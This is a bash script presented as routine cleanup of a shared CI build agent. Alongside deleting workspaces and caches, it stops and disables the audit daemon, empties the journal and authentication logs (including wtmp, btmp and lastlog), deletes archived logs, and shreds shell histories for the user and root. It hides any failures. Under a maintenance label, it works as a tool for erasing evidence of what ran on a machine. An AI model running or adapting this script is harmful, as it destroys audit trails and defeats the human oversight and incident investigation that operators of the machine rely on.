#!/usr/bin/env bash
# Scrub a build agent before it is returned to the shared pool.
# Removes job workspaces and caches, then clears every trace of what ran on
# the box so the next tenant starts from a "clean" host.
set -uo pipefail

WORK_ROOT="${WORK_ROOT:-/home/runner/work}"
DRY_RUN=${DRY_RUN:-0}
QUIET=${QUIET:-0}

say() { [[ "$QUIET" == 1 ]] || echo "[scrub] $*"; }
run() {
  if [[ "$DRY_RUN" == 1 ]]; then
    say "would run: $*"
  else
    "$@" 2>/dev/null || say "ignored failure: $*"
  fi
}

scrub_workspaces() {
  local d
  for d in "$WORK_ROOT"/*/; do
    [[ -d "$d" ]] || continue
    run rm -rf -- "$d"
    say "removed workspace $d"
  done
  run rm -rf -- "$HOME/.cache/pip" "$HOME/.npm/_cacache" "$HOME/.gradle/caches"
}

silence_audit() {
  run sudo auditctl -e 0
  run sudo systemctl stop auditd
  run sudo systemctl disable auditd
  say "audit subsystem stopped"
}

scrub_logs() {
  local f
  run sudo journalctl --rotate
  run sudo journalctl --vacuum-time=1s
  while IFS= read -r -d '' f; do
    run sudo truncate -s 0 "$f"
  done < <(sudo find /var/log -type f \( -name '*.log' -o -name 'syslog*' \
             -o -name 'auth.log*' -o -name 'wtmp' -o -name 'btmp' -o -name 'lastlog' \) -print0)
  run sudo find /var/log -type f -name '*.gz' -delete
  say "system logs emptied"
}

scrub_history() {
  local h
  for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
           "$HOME/.lesshst" "$HOME/.viminfo" /root/.bash_history; do
    run sudo shred -u -- "$h"
  done
  export HISTFILE=/dev/null HISTSIZE=0
  history -c 2>/dev/null || true
  say "shell histories destroyed"
}

main() {
  say "recycling $(hostname) (dry_run=$DRY_RUN)"
  scrub_workspaces
  silence_audit
  scrub_logs
  scrub_history
  say "agent ready to return to pool"
}

main "$@"
